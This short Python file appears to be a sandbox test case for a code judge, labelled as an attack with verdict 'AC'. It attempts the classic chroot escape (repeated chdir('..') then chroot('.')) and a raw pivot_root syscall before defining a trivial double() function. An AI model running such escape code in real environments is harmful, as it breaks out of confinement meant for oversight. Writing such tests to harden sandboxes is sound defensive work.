# attack: changes its root, and climbs out of it
# verdict: AC
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)

os.makedirs("jail", exist_ok=True)
if libc.chroot(b"jail") == 0:
    for _ in range(64):
        os.chdir("..")
    libc.chroot(b".")
    raise SystemExit("it changed its root")
if libc.syscall(155, b".", b".") == 0:
    raise SystemExit("pivot_root")


def double(n):
    return n * 2
